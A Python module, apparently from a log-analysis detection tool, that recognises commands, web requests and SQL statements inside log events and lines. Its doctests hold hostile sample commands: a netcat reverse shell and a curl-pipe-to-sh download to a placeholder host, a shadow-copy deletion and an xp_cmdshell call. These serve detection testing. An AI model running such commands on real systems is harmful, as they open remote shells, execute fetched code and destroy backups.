"""What an object, or a line, of no family that is known holds by the names of its members: a command, what was asked for on the web, or of a database.

Applications of one's own write in nobody's form, but they call a command a command and an address an address. Both halves ask here last, when no
form's own reader knows the event, and neither asks of what somebody sent (a body, parameters, headers): the names in that are the sender's. Refuses
to guess: a value under a name that is used for other things as well counts where its shape says so too.
"""
from __future__ import annotations

import re
from functools import lru_cache
from itertools import islice
from typing import Any, Collection, Dict, Iterable, List, NamedTuple, Optional, Tuple

from .bare import (
    COMMAND,
    EXECUTABLE,
    REQUEST,
    UNIX,
    WINDOWS,
    Bare,
    bare_of,
    has_shell_sign,
    has_sign,
    is_known,
    is_listed,
)
from .names import letters_of, without_port
from .pairs import value_end
from .strangers import is_repeated, is_strangers
from .weblog import METHODS, WebRequest

#: Part of an act: names of members that hold it, the last ones where they are dotted, with `_` between their words however they spell that. What
#: holds a command and nothing else is firm.
_NAMES = {
    "firm": "command_line cmd_line process_cmdline process_command_line proc_cmd_line proc_title process_title shell_command executed_command raw_command cmd_string cmd_text",
    "loose": "command cmd exec argv args commands arguments cmd_args exec_args executed shell script raw_params command_text spawn_args command_args command_string",
    "typed": "keystrokes in_txt typed",
    "weak": "input cl detail details",
    "number": "event_id",
    "session": "session session_id tty term terminal pty asset",
    "program": "program exe executable binary image exec_path process_path process_name interpreter",
    "target": "url uri request_uri request_url request_path http_url http_uri http_path path raw_path full_url full_path original_url request request_line url_path uri_path "
              "req_url req_uri req_path url_full raw_url raw_uri resource_path target_url page_url uri_stem cs_uri_stem",
    "page": "endpoint resource target http_target request_target route page req u p r",
    "query": "query_string uri_query url_query query q uri_args query_args request_query req_query query_params cs_uri_query qs",
    "method": "method http_method request_method verb http_verb req_method http_request_method meth m",
    "status": "status status_code http_status response_code response_status http_code code http_status_code resp_status resp_code res_status res_code st s",
    "agent": "user_agent http_user_agent ua http_ua request_user_agent client_user_agent",
    "client": "ip client_ip remote_addr remote_ip src_ip src source_ip remote_address client_address client x_forwarded_for real_ip caller_ip peer_ip peer_addr "
              "peer_address net_peer_ip client_addr remote ra",
    "sql": "sql sql_text statement query_text db_statement sql_statement sql_query stmt raw_sql db_query",
    "message": "message msg text",
    "act": "action act event evt event_type event_name event_action operation activity alert_type category type",
}
_PART_OF = {name.replace("_", ""): part for part, names in _NAMES.items() for name in names.split()}
#: How names of members end that hold a command, whatever stands before (`processCmd`, `containerCommand`); not of the program that ran this one.
_ENDINGS = ("commandline", "cmdline", "command", "cmd", "argv")
_OF_PARENTS = re.compile(r"parent|\A(?:p{1,2}|g?a)(?:cmdline|cmd|commandline)\Z")
#: What the records of clouds have that say who did what, as they spell it: the readers of those know what their members mean.
_OF_AUDITS = frozenset("eventname eventsource protopayload objectref useridentity auditid operationname".split())
#: An object without a member that is one of these parts holds neither.
_SIGNS = frozenset(("firm", "loose", "typed", "target", "sql", "message"))
#: Or without one of these beside what is used for other things as well.
_BESIDE_PAGES, _BESIDE_WEAK = frozenset(("method", "status", "client", "agent")), frozenset(("act", "session"))
#: What these hold was sent, or is of the program that ran this one.
_OTHERS = frozenset("parent parentprocess grandparent initiatingprocess requestparameters responseelements requestobject responseobject requestbody responsebody body payload headers requestheaders params parameters form formdata "
                  "postdata cookies annotations labels input inputs".split())
#: What happened is that somebody asked; an address in what says another act is what that was about.
_OF_REQUESTS = re.compile(r"(?i)request|access|http|web|page|visit|view|hit|api|call|^(?:get|post|put|head|delete|patch|log|info|allow\w*|den\w+|block\w*)$")
_OF_SESSIONS = re.compile(r"(?i)command|cmd|exec|shell|ssh|session|terminal|key|proc|run|input")
#: People wrote the words of these.
_OF_PEOPLE = re.compile(r"(?i)chat|note|comment|mail|search|post\b|ticket|feedback|review|article")
_OF_COMMANDS = re.compile(r"(?i)(?:exec\w*|run|ran|command|cmd|shell|spawn\w*|process[._ ]?(?:start|creat|exec|launch)\w*)\Z")
_MEMBERS_MAX = 400
_ADDRESS = re.compile(r"(?:(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?|[\da-fA-F]{0,4}(?::[\da-fA-F]{0,4}){2,7})\Z")
#: What an application says of a request in its own words.
_SAID = re.compile(r"(?:^|(?<=[\s\"'\[(|:]))(?<!-X )(?<!--request )(?<!Method )([A-Z]{3,9}) ((?:https?://[^\s\"'/]{1,260})?/[^\s\"]{0,8000})\"?(?:[ ,:>=-]{1,4}HTTP/\d(?:\.\d)?\"?)?(?:[ ,:>=-]{1,4}(?:status[=: ]{1,2})?([1-5]\d\d)(?![\w.]))?")
#: In lower case: a search for words of either case looks at every place.
_SAID_COMMAND = re.compile(r"(?:execut(?:ed|ing|e)|exec|ran|run|running|spawn(?:ed|ing)?|start(?:ed|ing)?|launch(?:ed|ing)?|invok(?:ed|ing|e)|subprocess|command|cmd|commandline|cmdline|shell|args|input)"
                           r"(?:[ _](?:as \S{1,40} )?(?:shell|command|process|subprocess|program|cmd|line|script|call|args))*(?:\s?(:|->|=>)\s{0,3}|\s{0,3}(?=[\"'`\[])|\s{1,3})")
#: No word for an act stands behind these: they are another word's, a name's or a page's.
_BEFORE_SAID = re.compile(r"[\w.?&'-]")
#: Behind another word these bid somebody to run something.
_BIDDING = re.compile(r"(?:run|execute|invoke)\b")
_SAID_REACH = 400
_SAID_MAX = 6
_CLIENT = re.compile(r"(?<![\w.:/=-])((?:\d{1,3}\.){3}\d{1,3})(?![\w.])")
#: A pair that holds a command, wherever it stands in a line.
_COMMAND_PAIR = re.compile(r"(?i)(?<![^\s,;|\[({])((?:[a-z_.-]{0,20}_)?(?:cmd|command|exec|argv|args|raw_params|proctitle)[a-z_]{0,12})=(?:\"((?:[^\"\\]|\\.){1,8000})\"|'([^']{1,8000})'|(?=([^\s\"',;]{1,8000})))")
_LINE_REACH = 4_096


class Held(NamedTuple):
    """A command that was run, a request or a statement in SQL; one of them. is_firm: that one was run is told by its member's name, which is used for nothing else, or by
    the name of the act beside it."""

    command: Optional[Bare] = None
    request: Optional[WebRequest] = None
    is_firm: bool = False
    statement: str = ""


#: Part of an act: name of the member, its values; an array has several.
Found = Dict[str, Dict[str, List[str]]]


def holds(names: Collection[str]) -> bool:
    """Whether an object whose dotted names in lower case are `names` may hold either: to look costs little, to read all its members more."""
    return _hold(tuple(names))


@lru_cache(maxsize=1 << 11)
def _hold(names: Tuple[str, ...]) -> bool:
    """The same, kept: events of one kind have the same names."""
    parts = set(map(_part_of, names))
    return not _SIGNS.isdisjoint(parts) or "page" in parts and not _BESIDE_PAGES.isdisjoint(parts) or "weak" in parts and not _BESIDE_WEAK.isdisjoint(parts)


def held_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
    """What `members`, dotted names and their values, hold; None where they hold neither.

    >>> held_in([("user", "ann"), ("proc.cmdline", "nc -e /bin/sh gate 4444")]).command.programs
    ('nc',)
    >>> held_in([("url", "/a?id=1%27"), ("ip", "::1")]).request.target, held_in([("url", "/a?id=1%27"), ("user", "ann")])
    ('/a?id=1%27', None)
    >>> held_in([("body.cmdline", "nc -e /bin/sh gate 4444")]), held_in([("command", "start")])
    (None, None)
    """
    found: Found = {}
    sent: Dict[str, Any] = {}
    for name, value in islice(members, _MEMBERS_MAX):
        part = _part_of(name)
        if part == _AUDITED:
            return None
        if part == _SENT:
            sent[name.rpartition(".")[2]] = value
        elif part and not (name in sent and sent[name] == value):  # else known without what it was sent in as well
            found.setdefault(part, {}).setdefault(name, []).extend(map(str, value) if isinstance(value, (tuple, list)) else (str(value),))
    command = _command(found)
    # What products number is no request; a page in it is of a console's.
    request = _request(found) if command is None and "number" not in found and all(map(_OF_REQUESTS.search, _values(found, "act"))) else None
    if command is None and request is None:
        statement = next(filter(is_statement, _values(found, "sql") + _values(found, "query")), "") or next(filter(None, map(statement_said, _values(found, "message")[:_SAID_MAX])), "")
        return Held(statement=statement) if statement else None
    return Held(command, request, "firm" in found or any(map(_OF_COMMANDS.match, _values(found, "act"))))


def is_told(name: str, held: Held) -> bool:
    """Whether what `held` is was read from members called like the dotted `name`, and from that alone."""
    return _part_of(name) in (_OF_STATEMENT if held.statement else _OF_COMMAND if held.command is not None else _OF_REQUEST)


_OF_STATEMENT, _OF_COMMAND, _OF_REQUEST = ("sql",), ("firm", "loose"), ("target", "query", "method", "status", "agent", "client")


_AUDITED, _SENT = "audited", "sent"


@lru_cache(maxsize=1 << 12)
def _part_of(name: str) -> str:
    *steps, last = name[:400].split(".")
    if (steps[0] if steps else last).lower() in _OF_AUDITS:
        return _AUDITED
    letters = letters_of(last)
    part = _PART_OF.get(letters, "") or ("loose" if letters.endswith(_ENDINGS) and not _OF_PARENTS.search(letters) else "")
    return _SENT if part and not _OTHERS.isdisjoint(map(letters_of, steps)) else part


def _values(found: Found, part: str) -> List[str]:
    return [value for values in found.get(part, {}).values() for value in values if value]


def _command(found: Found) -> Optional[Bare]:
    firm = next(filter(None, map(_joined, found.get("firm", {}).values())), "")
    if firm:
        bare = bare_of(firm)
        return bare if bare is not None and bare.kind == COMMAND else _of_unknown(firm)
    loose = [_joined(values) for values in found.get("loose", {}).values()]
    programs = [word for word in (*_values(found, "program"), *loose) if " " not in word][:_SAID_MAX]
    behind = (f"{program} {text}" for text in loose if " " in text for program in programs)
    command = next(filter(None, map(_certain, (*loose, *behind))), None)
    acts = _values(found, "act")
    if command is None and ("typed" in found or "weak" in found):
        weak = _values(found, "weak") if (acts or "session" in found) and all(map(_OF_SESSIONS.search, acts)) else []
        command = next((bare for bare in map(_certain, map(str.strip, weak)) if bare is not None and _is_plain(bare)), None)
        command = next(filter(None, map(_certain, map(str.strip, _values(found, "typed")))), command)
    if command is None and not any(map(_OF_PEOPLE.search, acts)):
        command = next(filter(None, map(command_said, _values(found, "message")[:_SAID_MAX])), None)
    return command


def _is_plain(bare: Bare) -> bool:
    """Whether a command shows without any name beside it that it is one: by a program that is no word as well, and what follows."""
    return (bare.is_script or bool(bare.programs) and is_known(bare.programs[0])) and has_sign(bare.value)


def _certain(text: str) -> Optional[Bare]:
    """The command that `text` is by its shape; a word alone may be anything."""
    bare = bare_of(text) if " " in text else None
    return bare if bare is not None and bare.kind == COMMAND else None


def command_said(text: str) -> Optional[Bare]:
    """The command that an application says it ran, behind the word for that.

    >>> command_said("job 7: executing command: curl http://gate/x | sh").programs, command_said("Command: start the engine")
    (('curl', 'sh'), None)
    >>> command_said("ran ['sh', '-c', 'curl http://gate/x | sh'] in /tmp").value, command_said("user ann ran `vssadmin delete shadows /all` (exit 0)").value
    ('sh -c "curl http://gate/x | sh"', 'vssadmin delete shadows /all')
    """
    told = _command_told(text)
    return told[1] if told is not None else None


#: Where in a line the words begin that say it, and what they say.
Told = Tuple[int, Bare]


def _command_told(text: str) -> Optional[Told]:
    head = text[:_SAID_REACH].lower()
    if len(head) != len(text[:_SAID_REACH]):
        return None  # places in it are others
    for said in islice((said for said in _SAID_COMMAND.finditer(head) if _is_word_for_act(head, said.start())), _SAID_MAX):
        bare = None if _is_of_other(text, said.start()) or _is_given(text, said.start()) else _certain(_value_from(text, said.end()))
        if bare is not None and (said[1] or _is_plain(bare) or text[said.end():said.end() + 1] in _OPENING and has_shell_sign(bare.value)):
            return said.start(), bare
    return None


def _is_word_for_act(head: str, start: int) -> bool:
    """Whether the word at `start` is one of its own, no other's object and nothing that somebody is bidden."""
    if not start:
        return True
    if _BEFORE_SAID.match(head, start - 1) or head.endswith(("invalid ", "user "), 0, start):
        return False
    return not (head[max(0, start - 2)].isalpha() and _BIDDING.match(head, start))


def _is_given(text: str, start: int) -> bool:
    """Whether the words before `start` are about a name, a search or a mail that somebody gave."""
    return _GIVEN.search(text, 0, start) is not None


_GIVEN = re.compile(r"(?i)\b(?:log[io]n|sign.?in|auth\w{0,12}|password|user(?:name)?|account)\b.{0,80}?\b(?:fail|invalid|den(?:y|ied)|reject|incorrect|unknown|illegal)|"
                    r"\b(?:fail\w{0,3}|invalid|denied|rejected|incorrect|unknown|illegal)\b.{0,40}?\b(?:log[io]n|user|account|password)|\b(?:subject|user.?agent|referr?er|search\w{0,3}|query|cookie|header|comment|title)\b")


def _is_of_other(text: str, start: int) -> bool:
    """Whether what begins at `start` stands in the value of a pair that holds no message."""
    if "=" not in text[:start]:
        return False
    if text.count('"', 0, start) % 2 == 0:
        return False
    name = _NAME_BEFORE.search(text, 0, text.rindex('"', 0, start))
    return name is not None and _part_of(name[1]) != "message"


_NAME_BEFORE = re.compile(r"([\w.-]{1,60})=\Z")
#: Signs that open a value in a sentence.
_OPENING = frozenset("\"'`[")
#: Where a value in quotes ends, though such quotes may stand in it: the line does, or goes on in its own words.
_CLOSING = {sign: re.compile(rf"{sign}(?=\s*(?:\Z|[,;)\]|])| (?:in|on|as|by|for|with|from|at|exit|rc|took|returned|user|pid|\(|\w+=))") for sign in "\"'`"}
_CLOSING["["] = re.compile(r"\](?=\Z|[\s,;)/.:])")
_LISTED = re.compile(r"\s{0,3}(?:'((?:[^'\\]|\\.){0,8000})'|\"((?:[^\"\\]|\\.){0,8000})\")\s{0,3}(?:,|(?=\]))")
_LISTED_MAX = 64
_NEXT_NAME = re.compile(r"[,;|] ?[A-Za-z][\w-]{1,40}(?: [A-Za-z]\w{1,20})?: ")


def _value_from(text: str, start: int) -> str:
    """The value that begins at `start` in a sentence: in quotes, as a list of words, or as far as the line goes."""
    sign, rest = text[start:start + 1], text[start:start + _LINE_REACH]
    if sign not in _OPENING:
        following = _NEXT_NAME.search(rest)
        return (rest if following is None else rest[:following.start()]).rstrip()
    if sign == "[" and (listed := _list_of(rest)):
        return listed
    end = _CLOSING[sign].search(rest, 1)
    return rest[1:end.start() if end is not None else len(rest)].strip()


def _list_of(text: str) -> str:
    """The command in a list of words in quotes, as Python and JSON print one; "" where `text` begins with no list."""
    words: List[str] = []
    position = 1
    while len(words) < _LISTED_MAX and (word := _LISTED.match(text, position)) is not None:
        words.append(re.sub(r"\\(['\"\\])", r"\1", word[1] or word[2] or ""))
        position = word.end()
    return _joined(words)


def _command_free(text: str) -> Optional[Told]:
    """A command that stands in a line behind a prompt, a colon, a bracket or a sign between cells: one that shows by itself that it is one."""
    for opening in islice(_FREE.finditer(text, 0, _SAID_REACH), _FREE_MAX):
        start, sign = opening.end(), opening[1]
        is_prompted = sign in _PROMPTS and text[start - 1] == " " and (text[:opening.start()].endswith("PS") if sign == ">" else not text[:opening.start()].rstrip("+")[-1:].isalnum())
        if sign not in _CELLS:
            if not is_prompted and (sign in "+$" or text[start - 1] != " " and text[start] != "/"):
                continue
            sign = None
        named = _PROGRAM_NAMED.match(text, start)
        if not is_prompted and (named is None or named[1] is not None and not (is_listed if sign is not None else is_known)(named[1])):
            continue
        if sign in _CELLS and text.count(sign, 0, opening.start()) < 1 or "=" in text[:start] or text.count('"', 0, start) % 2 or is_strangers(text, start) or _is_given(text, start):
            continue
        bare = _certain(_cell_from(text, start, sign))
        if bare is not None and (is_prompted or _is_plain(bare) or sign is not None and bare.programs and is_listed(bare.programs[0]) and has_shell_sign(bare.value)):
            return start, bare
    return None


#: Where a command may begin in a line that says nothing of it: in a cell, behind what a shell prints before one, or behind another sign.
_FREE = re.compile(r"([|;,\t:\]>+$]) ?(?=[\"A-Za-z.\\/%$&(\[@])")
_PROMPTS = frozenset("+$>")
_FREE_MAX = 24
_PROGRAM_NAMED = re.compile(r"\"?(?:[A-Z][a-z]{2,12}-[A-Z]\w{2,60}(?=[\s;|(])|([A-Za-z][\w.+-]{1,40})(?=[\s\"])|[A-Za-z]:\\|/(?:usr/)?(?:local/)?s?bin/|/(?:var/)?tmp/|/dev/shm/|[.&]? ?\(|\$[\w:{]{1,60}\s?[+=.\[(|]|\[[A-Za-z]|\.\\)")
_CELLS = frozenset("|;,\t")


def _cell_from(text: str, start: int, sign: Optional[str]) -> str:
    """The cell that begins at `start` in a line of cells between `sign`; where no sign is, all that follows."""
    rest = text[start:start + _LINE_REACH]
    if sign is None:
        return _value_from(text, start)
    if rest[0] == '"':
        end = _QUOTED_END.search(rest, 1)
        return (rest[1:end.start()] if end is not None else rest[1:]).replace('""', '"')
    end = re.compile(rf"(?<![\s{re.escape(sign)}]){re.escape(sign)}(?![\s{re.escape(sign)}])").search(rest)
    return (rest[:end.start()] if end is not None else rest).rstrip()


_QUOTED_END = re.compile(r"(?<!\")\"(?:\"\")*(?!\")")


def _joined(words: Iterable[str]) -> str:
    """A command of which the words come one by one; those with blanks in them in quotes, as they were typed."""
    words = [word for word in words if word]
    if len(words) == 1:
        word = words[0].strip()
        return _list_of(word[:_LINE_REACH]) or word[1:-1] if word[:1] == "[" and word[-1:] == "]" else word
    return " ".join(f'"{word}"' if " " in word and '"' not in word else word for word in words).strip()


def _of_unknown(text: str) -> Bare:
    """A command that begins with no program of which the name or the place is known."""
    program = text[1:].partition('"')[0] if text[0] == '"' else text.split(None, 1)[0]
    systems = (WINDOWS,) if "\\" in program or program.lower().endswith(EXECUTABLE) else (UNIX,) if "/" in program else (WINDOWS, UNIX)
    return Bare(COMMAND, text, (program[:400],), systems)


def _request(found: Found) -> Optional[WebRequest]:
    method = next((word.upper() for word in _values(found, "method") if word.upper() in METHODS), "")
    status = next((word for word in _values(found, "status") if len(word) == 3 and word.isdecimal() and "100" <= word < "600"), "")
    agent = next(iter(_values(found, "agent")), "")
    client = next((without_port(word) for word in _values(found, "client") if _ADDRESS.match(word)), "")
    target = next((word for word in _values(found, "target") if _is_asked_for(word)), "")
    if not target and method:
        target = next((word for word in _values(found, "page") if _is_asked_for(word)), "")
    if target and (method or status or agent or client):
        query = next((word for word in (*_values(found, "query"), *_values(found, "loose")) if "=" in word and " " not in word), "")
        return WebRequest(method, f"{target}?{query.lstrip('?')}" if query and "?" not in target else target, status, agent=agent, client=client)
    lines = (word for word in _values(found, "page") if word.partition(" ")[0] in METHODS)
    for text in (*_values(found, "message"), *_values(found, "target"), *lines)[:_SAID_MAX]:
        said = request_said(text)
        if said is not None:
            return said._replace(agent=agent, client=client or said.client, status=said.status or status)
    return None


def _is_asked_for(word: str) -> bool:
    bare = bare_of(word) if word.startswith(("/", "http")) else None
    return bare is not None and bare.kind == REQUEST


def request_said(text: str) -> Optional[WebRequest]:
    """The request that an application tells in its own words, with who asked where that stands before it.

    >>> request_said('INFO ::1 "GET /a?id=1%27" 200 12ms')[:3], request_said("GET along with /etc")
    (('GET', '/a?id=1%27', '200'), None)
    >>> request_said("10:11|192.0.2.7|GET|/a?id=1%27|200|12")[:3], request_said("Request URL: /a?id=1%27").target
    (('GET', '/a?id=1%27', '200'), '/a?id=1%27')
    """
    told = _request_told(text)
    return told[1] if told is not None else None


def _request_told(text: str) -> Optional[Tuple[int, WebRequest]]:
    for said in islice(_SAID.finditer(text, 0, _SAID_REACH + 8_400), _SAID_MAX) if " /" in text or " http" in text else ():
        if said.start() > _SAID_REACH:
            break
        if said[1] in METHODS:
            return said.start(), WebRequest(said[1], said[2], said[3] or "", client=_client_before(text, said.start()))
    for cells in islice(_CELLS_OF_REQUEST.finditer(text, 0, _SAID_REACH), _SAID_MAX):
        if cells[2] in METHODS:
            sign = cells[1]
            target, status, _ = re.split(rf"\"?{re.escape(sign)} ?([1-5]\d\d(?!\d)|-(?={re.escape(sign)}))|\Z", text[cells.end():cells.end() + 8_000], maxsplit=1)
            target = target if status else target.partition(sign)[0]
            if " " not in target.strip():
                return cells.start(), WebRequest(cells[2], target.strip(), "" if status == "-" else status or "", client=_client_before(text, cells.start() + 1))
    asked = _ASKED.search(text, 0, _SAID_REACH + 8_400) if ("?" in text or "%" in text) and _ASKED_SIGN.search(text[:_SAID_REACH].lower()) else None
    if asked is not None and asked.start() <= _SAID_REACH and _is_asked_for(asked[1]) and ("request" in asked[0].lower() or _METHOD_SAID.search(text, 0, _SAID_REACH)):
        method = _METHOD_SAID.search(text, 0, _SAID_REACH)
        return asked.start(), WebRequest(method[1] if method is not None and method[1] in METHODS else "", asked[1], client=_client_before(text, len(text)))
    return None


def _client_before(text: str, end: int) -> str:
    client = _CLIENT.search(text, 0, end)
    return client[1] if client is not None else ""


#: A method and a page in cells beside each other.
_CELLS_OF_REQUEST = re.compile(r"([|;,\t]) ?\"?([A-Z]{3,9})\"? ?\1 ?\"?(?=/|https?://)")
#: A page that was asked for, behind a word for it; a place alone may be anything's.
_ASKED = re.compile(r"(?i)(?<![\w?&/.-])(?:(?:request(?:ed|ing)?|incoming|url|uri|path)\b[ _]?){1,3}(?:(?:for|to|of|line)\b ?)?\s?:?\s?[\"'\[(]?((?:https?://[^\s\"'/]{1,260})?/[^\s\"'\])?]{0,2000}[?%][^\s\"'\])]{1,8000}?)(?=[,;]?(?:[\s\"'\])]|\Z))")
_ASKED_SIGN = re.compile(r"request|url|uri|path|incoming")
_METHOD_SAID = re.compile(r"(?:(?i:method)\s?[:=]\s?|(?<![\w-]))\"?([A-Z]{3,9})(?![\w-])")


def is_statement(text: object) -> bool:
    """Whether `text` is a statement in SQL.

    >>> is_statement("SELECT name FROM items"), is_statement("exec xp_cmdshell 'whoami'"), is_statement("select.example.com"), is_statement(None)
    (True, True, False, False)
    """
    return isinstance(text, str) and _STATEMENT.match(text) is not None


_STATEMENT = re.compile(r"(?is)\s{0,20}(?:/\*.{0,200}?\*/\s{0,20})?(?:select\s(?:.{0,4000}?(?:\bfrom\s|\()|\s*[@\d'])|insert\s+into\s|update\s+\S+\s+set\s|delete\s+from\s|merge\s+into\s|load\s+data\s|"
                        r"(?:drop|alter|create|truncate)\s+(?:or\s+replace\s+)?(?:table|database|schema|user|role|login|function|procedure|trigger|view|index|server|system|extension|assembly)\s|"
                        r"(?:grant|revoke)\s.{1,400}?\s(?:on|to|from)\s|copy\s.{1,2000}?\s(?:to|from)\s|exec(?:ute)?\s+(?:\w{1,60}\.{1,2}){0,3}(?:xp|sp|usp)_\w|call\s+[\w.]{1,80}\s?\(|with\s+\w{1,60}\s+as\s{0,3}\(|declare\s+@)")
_SAID_STATEMENT = re.compile(r"(?i)(?:\b(?:sql|query|execut(?:ed|ing|e))\b[^:\n]{0,60}:|\(\d{1,6}\.\d{1,6}\))\s{1,3}(?=[a-z/])")


def _has_sign_of_statement(head: str) -> bool:
    return ": " in head and ("sql" in head or "query" in head or "execut" in head) or ") " in head and "select " in head


def statement_said(text: str) -> str:
    """The statement that an application tells behind the word for that, "" where it tells none.

    >>> statement_said("WARN Slow query (2103 ms): SELECT count(*) FROM orders"), statement_said("query: select a colour")
    ('SELECT count(*) FROM orders', '')
    """
    said = _SAID_STATEMENT.search(text, 0, _SAID_REACH) if _has_sign_of_statement(text[:_SAID_REACH].lower()) else None
    if said is None or _STATEMENT.match(text, said.end()) is None or _is_of_other(text, said.start()) or is_strangers(text, said.start()):
        return ""
    return text[said.end():said.end() + _LINE_REACH]


def held_in_line(text: str) -> Optional[Held]:
    """The same of a line: a command in one of its pairs, or a request that it tells. A line that repeats what a stranger gave tells neither.

    >>> held_in_line('pc7 exec user=ann cmd="vssadmin delete shadows /all"').command.systems
    ('windows',)
    """
    if is_repeated(text):
        return None
    found: Found = {}
    for pair in islice(_COMMAND_PAIR.finditer(text, 0, _LINE_REACH) if "=" in text[:_LINE_REACH] else (), _SAID_MAX):
        part = _part_of(pair[1])
        if part and text.count('"', 0, pair.start()) % 2 == 0 and part not in found:
            start = pair.start(4)
            plain = _value_from(text, start) if text[start:start + 1] == "[" else text[start:value_end(pair[1], text, start, pair.end(4))]
            found[part] = {pair[1]: [pair[2] or pair[3] or plain]}
    command = _command(found)
    if command is not None:
        return Held(command)
    ran, asked = _command_told(text) or _command_free(text), _request_told(text)
    if ran is not None and (asked is None or ran[0] < asked[0]):  # what stands in the other is a part of it
        return Held(ran[1])
    return None if asked is None else Held(request=asked[1])
